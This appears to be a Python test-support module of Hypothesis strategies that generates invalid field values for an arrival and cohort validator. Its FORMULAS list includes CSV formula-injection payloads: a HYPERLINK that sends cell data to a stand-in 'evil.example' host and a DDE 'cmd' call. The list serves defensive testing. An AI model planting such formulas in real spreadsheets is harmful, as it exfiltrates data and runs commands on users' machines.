"""A malformed example (what is handed in, and what its refusal must name), and values that
are wrong for one field: made wrong by construction, never found by asking the model whether
it takes them, so a test that sees one accepted has found a hole, not a generator that
guessed wrong.

Text comes from an alphabet given by the caller (a cohort in Windows-1252 can only hold its
characters), and is wrong after the blanks around it are stripped, as every reader strips
them.
"""

import re
from dataclasses import dataclass
from datetime import date
from typing import Any

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from models.countries import ALPHA2
from models.levels import GermanLevel
from models.purpose import Purpose
from models.steps import STEP_BY_NAME

FILE = "{file}"  # stands for the path of the file handed in


@dataclass(frozen=True)
class Malformed:
    """One malformed input: what is handed in, and what its refusal must say."""

    kind: str  # arrival, cohort, decision or run input
    names: str  # a pattern the refusal must match: it names the bad field (and line)
    how: str  # what is wrong with it, for a failing example's report
    args: tuple[str, ...] = ()  # the command line, for all kinds but a run input
    file: bytes | None = None  # the file handed in
    suffix: str = ".json"
    answer: dict[str, Any] | None = None  # a run input


def field_named(name: str, line: int | None = None) -> str:
    """The refusal's pattern: `name: ...` (`name.3:` for a list's item), on its cohort line."""
    where = f"line {line}, " if line is not None else r"(?<![\w.])"
    return rf"{where}{re.escape(name)}(\.\d+)?:"


Text = SearchStrategy[str]

# What pydantic reads as a boolean, in any case.
BOOLEAN_WORDS = {"0", "off", "f", "false", "n", "no", "1", "on", "t", "true", "y", "yes"}
LEVELS = {level.value.upper() for level in GermanLevel} | {"NONE"}
PURPOSES = {purpose.value for purpose in Purpose}
FORMULAS = [  # names a spreadsheet would run as formulas
    '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
    "=1+1",
    "+49 234 1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]
# What a JSON document holds where text belongs, wrongly: no None (an optional field takes
# it) and no whole number (a date takes one as Unix time).
NOT_TEXT = st.sampled_from([True, [], {}, [1, 2], {"a": "b"}, 1.5])
C0 = [chr(n) for n in range(0x20)] + ["\x7f"]


@dataclass(frozen=True)
class Alphabet:
    """The characters a file in some encoding holds, and reads back as the same."""

    chars: SearchStrategy[str]
    controls: SearchStrategy[str]  # its control characters (line separators count as such)


def alphabet(codec: str) -> Alphabet:
    if codec.startswith("utf"):
        controls = [*C0, *(chr(n) for n in range(0x80, 0xA0)), "\u2028", "\u2029"]
        return Alphabet(st.characters(codec="utf-8"), st.sampled_from(controls))
    # A file that is not UTF-8 is read as Windows-1252: Latin-1's C1 controls come back as
    # its letters, so they are left out.
    known = [chr(n) for n in range(0x20, 0x2200) if _round_trips(chr(n), codec)]
    return Alphabet(st.sampled_from(known), st.sampled_from(C0))


def _round_trips(character: str, codec: str) -> bool:
    try:
        return character.encode(codec).decode("cp1252") == character
    except UnicodeError:
        return False


UTF8 = alphabet("utf-8")


def stripped(text: Text) -> Text:
    return text.filter(lambda value: value.strip() != "")


def words(abc: Alphabet, *, max_size: int = 12) -> Text:
    """Printable text without digits or blanks: no number, no date, never empty."""
    letters = abc.chars.filter(lambda c: c.isprintable() and not c.isdigit() and not c.isspace())
    return st.text(letters, min_size=1, max_size=max_size)


def digitless(abc: Alphabet) -> Text:
    """Any text without a digit, so never a date or a number; control characters too."""
    chars = st.one_of(abc.chars, abc.controls).filter(lambda c: not c.isdigit())
    return stripped(st.text(chars, min_size=1, max_size=20))


def longer_than(limit: int, abc: Alphabet) -> Text:
    """A little too long, or a huge cell: beyond what csv reads by default (128 KiB) too."""
    length = st.sampled_from([limit + 1, limit + 20, 4_000, 131_073, 300_000])
    return st.builds(lambda word, n: (word * n)[:n], words(abc), length)


def with_control_character(abc: Alphabet) -> Text:
    """A control character between two words (a NUL, an escape, a line break)."""
    return st.builds(lambda a, c, b: a + c + b, words(abc), abc.controls, words(abc))


def impossible_dates() -> Text:
    """No such day: a 13th month, a 32nd day, 30 February, 31 April; ISO or German."""
    day_month = st.one_of(
        st.tuples(st.integers(1, 28), st.integers(13, 99)),
        st.tuples(st.integers(32, 99), st.integers(1, 12)),
        st.tuples(st.integers(30, 31), st.just(2)),
        st.tuples(st.just(31), st.sampled_from([4, 6, 9, 11])),
    )
    return st.builds(
        lambda dm, year, german: (
            f"{dm[0]:02d}.{dm[1]:02d}.{year}" if german else f"{year}-{dm[1]:02d}-{dm[0]:02d}"
        ),
        day_month,
        st.integers(1990, 2040),
        st.booleans(),
    )


def bad_dates(abc: Alphabet) -> Text:
    return st.one_of(impossible_dates(), digitless(abc))


def days(first: date, last: date) -> Text:
    return st.dates(first, last).map(date.isoformat)


def not_in(values: set[str], abc: Alphabet, *examples: str) -> Text:
    """Text that is none of `values` after stripping, in any case (some are read in any)."""
    folded = {value.casefold() for value in values}
    return st.one_of(st.sampled_from(examples), digitless(abc)).filter(
        lambda value: value.strip().casefold() not in folded
    )


def unknown_steps(abc: Alphabet) -> Text:
    return not_in(set(STEP_BY_NAME), abc, "flat", "visa_abroad", "anmeldung!")


def arrival_text(abc: Alphabet) -> dict[str, Text]:
    """For each field of an arrival, text that is wrong for it, as a cohort's cell or a JSON
    string. (Lists as a cell holds them, "3 5"; a JSON arrival has them as lists.)"""
    country = st.one_of(
        st.sampled_from(sorted(ALPHA2)).map(str.lower),  # codes are upper case
        st.from_regex(r"[A-Z]{2}", fullmatch=True).filter(lambda code: code not in ALPHA2),
        not_in(ALPHA2, abc, "POL", "D", "EU", "Polen"),
    )
    language = not_in(set(), abc, "EN", "eng", "e", "e1", "english", "de-DE")

    def long_or_control(limit: int) -> Text:
        return st.one_of(longer_than(limit, abc), with_control_character(abc))

    return {
        "name": long_or_control(200),
        "nationality": country,
        "qualification_country": country,
        "profession": st.one_of(words(abc, max_size=1), long_or_control(200)),
        "purpose": not_in(PURPOSES, abc, "holiday", "job search", "asylum"),
        "german_level": not_in(LEVELS, abc, "B3", "D1", "A0", "C", "B1+"),
        "arrival_date": bad_dates(abc),
        "move_in_date": st.one_of(bad_dates(abc), days(date(1990, 1, 1), date(2026, 11, 15))),
        "birth_date": st.one_of(bad_dates(abc), days(date(2027, 3, 1), date(2040, 1, 1))),
        "employer": long_or_control(200),
        "language": language.filter(lambda code: not re.fullmatch(r"[a-z]{2}", code.strip())),
        "email": st.one_of(
            st.sampled_from(["nobody", "a@b", "a b@example.org", "@example.org"]),
            digitless(abc).filter(lambda text: "@" not in text),
            longer_than(254, abc).map(lambda text: text + "@example.org"),
            with_control_character(abc).map(lambda text: text + "@example.org"),
        ),
        "annual_salary": st.one_of(
            st.integers(max_value=-1).map(str),
            st.integers(10_000_001, 10**12).map(str),
            not_in(set(), abc, "lots", "45.000 EUR", "1e9"),
        ),
        "fast_track": not_in(BOOLEAN_WORDS, abc, "maybe", "ja", "2", "wahr"),
        "children": st.one_of(
            st.integers(18, 200).map(str),
            st.integers(-200, -1).map(str),
            words(abc).filter(lambda word: "," not in word).map(lambda word: f"3 {word}"),
        ),
        "already_done": unknown_steps(abc).filter(
            lambda text: not set(text.replace(",", " ").split()) <= set(STEP_BY_NAME)
        ),
    }
